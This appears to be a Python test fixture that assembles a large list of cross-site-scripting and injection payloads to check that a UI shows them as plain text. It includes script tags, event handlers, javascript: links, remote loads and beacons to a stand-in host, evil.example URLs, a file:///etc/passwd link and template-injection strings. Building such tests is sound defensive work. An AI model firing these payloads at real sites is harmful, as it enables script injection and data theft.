"""Hostile texts: the shared set, and more of our own. Each must stay plain text everywhere."""

import json
from pathlib import Path

SHARED = Path(__file__).with_name("ui_payloads.json")
AWAY = "http://127.0.0.1:9999"
RUN = "window.__xss='{}'"

_SCRIPTS = [
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={away}/a.js></script>",
    "<script/src='{away}/b.js'></script>",
    "<<script>{run}//<</script>",
    "<script\x0b>{run}</script>",
    "<script>{run}",
    "</textarea><script>{run}</script>",
    "</title></style></noscript></template><script>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='{away}/c.js'/></svg>",
    "<math><mtext></p><script>{run}</script>",
    "<script type=module>import '{away}/d.js'</script>",
    "<script>fetch('{away}/fetch')</script>",
    "<script>navigator.sendBeacon('{away}/beacon')</script>",
]
_HANDLERS = [
    "<img src=x onerror={run}>",
    "<img src='x' onerror='{run}'/>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<div onmouseover={run} style='position:fixed;inset:0'>x</div>",
    "<a onclick={run} href=#>x</a>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={run}>x</b>",
    "<b style=transition:color.1s ontransitionend={run}>x</b>",
    "<object data=x onerror={run}></object>",
    "<iframe onload={run}></iframe>",
    "<form onsubmit={run}><button>x</button></form>",
    "<dialog open onclose={run}><form method=dialog><button>x</button></form></dialog>",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' tabindex=1 autofocus x='",
    "` onerror={run} `",
    "--><img src=x onerror={run}><!--",
    "]]><img src=x onerror={run}>",
    "<img src=x:x onerror\x00={run}>",
    "<x contenteditable onblur={run} autofocus tabindex=1>x</x>",
]
_LINKS = [
    "<a href='javascript:{run}'>x</a>",
    "<a href=JaVaScRiPt:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href='&#106;avascript:{run}'>x</a>",
    "<a href='data:text/html,<script>{run}</script>'>x</a>",
    "<a href='vbscript:{run}'>x</a>",
    "<a href='{away}/click' ping='{away}/ping'>x</a>",
    "<area href='javascript:{run}' shape=default>",
    "<math href='javascript:{run}'>x</math>",
    "<svg><a xlink:href='javascript:{run}'><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:{run}'/></svg>",
    "<svg><use href='{away}/u.svg#x'/></svg>",
    "<base href='{away}/'>",
    "[x](javascript:{run})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][1]\n\n[1]: javascript:{run}",
    "<javascript:{run}>",
    "![x]({away}/markdown.png)",
    "![x][2]\n\n[2]: {away}/reference.png",
]
_LOADS = [
    "<link rel=stylesheet href='{away}/s.css'>",
    "<link rel=prefetch href='{away}/p'>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url={away}/refresh'>",
    "<style>body{{background:url({away}/style)}}</style>",
    "<style>@import '{away}/import.css';</style>",
    "<p style=\"background-image:url('{away}/inline')\">x</p>",
    "<img srcset='{away}/srcset 1x'>",
    "<picture><source srcset='{away}/pic'><img></picture>",
    "<embed src='{away}/embed'>",
    "<object data='{away}/object'></object>",
    "<iframe srcdoc=\"<img src='{away}/srcdoc'>\"></iframe>",
    "<frameset><frame src='{away}/frame'></frameset>",
    "<input type=image src='{away}/input'>",
    "<track src='{away}/track'>",
    "<table background='{away}/table'><tr><td>x</table>",
    "<svg><feImage href='{away}/fe'/></svg>",
    "<svg><style>@import url({away}/svgcss)</style></svg>",
    "<portal src='{away}/portal'></portal>",
    "<template><img src='{away}/template'></template>",
    "<noscript><img src='{away}/noscript'></noscript>",
    "<isindex formaction='javascript:{run}' type=submit>",
]
_OTHER_PARSERS = [
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "\\(\\includegraphics{{{away}/tex}}\\)",
    "```mermaid\ngraph TD; A-->B; click A call alert()\n```",
    "```html\n<script>{run}</script>\n```",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{%raw%}}{{{{7*7}}}}",
    "#{{7*7}} <%= 7*7 %>",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;img src=x onerror={run}&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "\u202ereversed\u202c \u2066isolated\u2069 \u200bzero\u200d \ufeffmark",
    "\U000e0049\U000e0067 hidden tags \u3164\uffa0 fillers",
    "a" + "\u0301" * 300 + " stacked marks",
    "\x1b[31mred\x1b[0m \x07 bell \x00 nul \x08 back",
    "[1] [2] [99] {{1}} citation look-alikes [0]",
    "</p></div></section><h1>Breaking out</h1>",
]


def payloads():
    """The shared payloads and our own, each once."""
    shared = json.loads(SHARED.read_text())
    groups = (_SCRIPTS, _HANDLERS, _LINKS, _LOADS, _OTHER_PARSERS)
    own = [
        text.format(run=RUN.format(f"own{number}"), away=AWAY)
        for number, text in enumerate(text for group in groups for text in group)
    ]
    return list(dict.fromkeys([*shared, *own]))


LINK_PAYLOADS = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:http://127.0.0.1/x",
    "//evil.example/x",
    "/local",
    "http:evil.example",
    "http://",
    "http://user:pass@evil.example/",
    "http://good.example\\@evil.example/",
    "http://good.example:99999/",
    "https://exa mple.com/",
    "http://[::1",
    "https://example.com/\u202egnp",
    "mailto:x@example.com",
    "ftp://example.com/",
    "",
)
